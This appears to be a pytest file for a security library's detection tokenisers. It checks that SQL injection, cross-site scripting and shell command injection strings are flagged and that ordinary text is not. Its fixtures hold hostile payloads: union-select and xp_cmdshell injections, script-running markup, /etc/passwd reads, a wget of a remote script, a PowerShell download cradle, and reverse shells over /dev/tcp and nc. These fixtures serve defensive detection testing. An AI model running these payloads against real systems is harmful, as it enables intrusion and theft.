"""The tokenisers: SQL (libinjection's method), HTML and JavaScript, and the shell grammar.

Each case is read by the native tokenisers and by the Python oracle.
"""

from __future__ import annotations

import pytest

from stockade._native import DetectionTokenisers
from stockade.oracle.detection.shell import is_shell, is_shell_strict
from stockade.oracle.detection.sqli import fingerprint, is_sqli, sqli_context, tokens
from stockade.oracle.detection.xss import is_xss, script_context

NATIVE = DetectionTokenisers()

ORDINARY_TEXT = [
    "rock and roll",
    "Tom's or Jerry's",
    "O'Reilly",
    "it's 5 o'clock",
    "don't stop me now",
    "1 or 2",
    "select a size",
    "how to select a union representative",
    "union select committee",
    "soviet union",
    "drop table tennis",
    "delete from cart",
    "update admx files on domain controller",
    "C++ and C#",
    "a=b",
    "2+2=4",
    "x = 1 or 2",
    "100% cotton",
    "Q&A",
    "AT&T",
    "Ben & Jerry's",
    "Let's go; we're late",
    "It's -- really -- good",
    'he said "or else"',
    "jo@example.org",
    "https://example.com/a?b=c&d=e",
    "2024-01-01 10:30",
    "+1 (555) 123-4567",
    "order by price",
    "Guns N' Roses",
    "L'Oréal",
    "5' 11\" tall",
    "fish 'n' chips",
    "if (a) then b",
    "sin(x) + cos(x)",
    "exec summary",
]


@pytest.mark.parametrize("text", ORDINARY_TEXT)
def test_ordinary_text_is_no_sql(text: str) -> None:
    assert not is_sqli(text), fingerprint(tokens(text))
    assert not NATIVE.is_sqli(text)


@pytest.mark.parametrize(
    "payload",
    [
        "1 or 1=1",
        "' or '1'='1",
        "admin'--",
        "admin' #",
        "1' and sleep(5)#",
        "1 and benchmark(5000000,md5(1))",
        "-1 union select null,null--",
        "1 UNION ALL SELECT 'x'||'y'--",
        "1 union/**/select 1,2",
        "/*!50000union*/ /*!50000select*/ 1,2",
        "') or ('a'='a",
        "1; drop table users--",
        "'; exec xp_cmdshell 'dir'--",
        "1 order by 24--",
        "x' order by 3#",
        "(select load_file('/etc/passwd'))",
        "1 and extractvalue(1,concat(0x7e,version()))",
        "1)) waitfor delay '0:0:5'--",
        "aa'or+column*0+like'0",
        "8+and+1=1--",
        "or 1=1",
        "sleep(5)",
        "'),NULL,NULL) waitfor delay '0:0:20' --",
    ],
)
def test_injections_read_as_sql(payload: str) -> None:
    assert is_sqli(payload), [fingerprint(tokens(payload, q)) for q in ("", "'", '"')]
    assert NATIVE.is_sqli(payload)


def test_the_context_an_injection_needs_is_named() -> None:
    assert sqli_context("1 or 1=1") == ""
    assert sqli_context("x' or 'a'='a") == "'"
    assert sqli_context('x" or "a"="a') == '"'
    assert sqli_context("Tom's car") is None


def test_tokens_fold_unary_signs_arithmetic_and_lists() -> None:
    assert fingerprint(tokens("-1+2 union all select 1,2,3,4")) == "1UE1,1"
    assert fingerprint(tokens("1 order by 5")) == "1B1"


@pytest.mark.parametrize(
    "text",
    [
        "a<b",
        "<3 you",
        "x <= y",
        "<p>Hello <b>world</b></p>",
        '<a href="https://example.com/">a link</a>',
        '<img src="photo.jpg" alt="me">',
        'He said "online" shop',
        "turn on the lights",
        "javascript: the good parts",
        "Javascript:",
        "$(document).ready(function(){ init(); })",
        "price: 10 < 20 > 5",
        '<p style="color: red /* brand */">',
        '<set attributeName="fill" to="red"/>',
        "style=color:red",
        "smile <:-) and <:D",
    ],
)
def test_ordinary_markup_and_text_is_no_script(text: str) -> None:
    assert not is_xss(text)
    assert not NATIVE.is_xss(text)
    assert not script_context(text)
    assert not NATIVE.script_context(text)


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        '"><img src=x onerror=prompt(1)>',
        '" autofocus onfocus=alert(1) x="',
        "' onmouseover='alert(1)",
        "<input onfocus=alert(1) autofocus>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<iframe srcdoc="<script>alert(1)</script>">',
        '<div style="width:expression(alert(1))">',
        '<b style="x:expr/**/ession(alert(1))">',
        '<b style="x:\\65 xpression(alert(1))">',
        '<svg:svg onload="alert(1)"/>',
        "<details open ontoggle=alert(1)>",
        "<x onxxx=1>",
        "</title><script>alert(1)</script>",
        "onload=alert(1)",
        '<animate attributeName="onunload" to="alert(1)"/>',
        '<set attributeName="xlink:href" to="//evil.example/"/>',
        "style=x:expression(alert(1))",
        '<img src=x onerror\x0b="alert(1)">',
        "<:vmlframe src=x>",
    ],
)
def test_markup_that_runs_script_is_recognised(payload: str) -> None:
    assert is_xss(payload)
    assert NATIVE.is_xss(payload)


@pytest.mark.parametrize(
    "payload",
    [
        "';alert(1)//",
        '"-alert(1)-"',
        "javascript:alert(document.cookie)",
        "top['al'+'ert'](1)",
        "alert`1`",
        "eval(atob('YWxlcnQoMSk='))",
        "String.fromCharCode(88,83,83)",
        "document.cookie",
    ],
)
def test_javascript_breakouts_are_recognised(payload: str) -> None:
    assert script_context(payload)
    assert NATIVE.script_context(payload)


@pytest.mark.parametrize(
    "text",
    [
        "copy & paste",
        "Tom & Jerry",
        "rock & roll",
        "I came; I saw",
        "News | Sort by date",
        "Home | Contact",
        "PowerShell tutorial",
        "Windows PowerShell execution policy",
        "$(document).ready(function(){ init(); })",
        "id",
        "ls",
        "echo dot",
        "ping pong table",
        "find out more",
        "(see above)",
        "cat food",
        "Hi,\nwho are you?",
        "Date of birth/death\n28 April 1673 / 27 April 1673",
        "{red,green}",
        "next=/account/orders?page=2",
        "more at https://example.com",
    ],
)
def test_ordinary_text_is_no_command(text: str) -> None:
    assert not is_shell(text)
    assert not NATIVE.is_shell(text)


@pytest.mark.parametrize(
    "payload",
    [
        ";id",
        "| whoami",
        "127.0.0.1 && cat /etc/passwd",
        "$(uname -a)",
        "`id`",
        "x&echo vulnerable",
        "1;echo hacked",
        "\nwget http://203.0.113.7/x.sh",
        "cat${IFS}/etc/passwd",
        "c'a't /e't'c/passwd",
        "/???/c?t /???/p??s??",
        "{cat,/etc/passwd}",
        "& dir c:\\",
        "| type c:\\windows\\win.ini",
        "cmd /c whoami",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "iex(new-object net.webclient).downloadstring('http://x/a')",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "nc -e /bin/sh 203.0.113.7 4444",
        "IF EXIST data.xls ECHO found",
        "; sleep 10",
    ],
)
def test_commands_are_recognised(payload: str) -> None:
    assert is_shell(payload)
    assert NATIVE.is_shell(payload)


def test_headers_need_more_than_a_semicolon() -> None:
    user_agent = "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10"
    assert not is_shell_strict(user_agent)
    assert not NATIVE.is_shell_strict(user_agent)
    assert not is_shell_strict(
        "LiveJournal.com (webmaster@livejournal.com; for http://www.livejournal.com/; 1 readers)"
    )
    assert is_shell_strict(";chmod +x /tmp/x")
    assert NATIVE.is_shell_strict(";chmod +x /tmp/x")
    assert is_shell_strict("x | nc -e /bin/sh 203.0.113.7 4444")
    assert NATIVE.is_shell_strict("x | nc -e /bin/sh 203.0.113.7 4444")
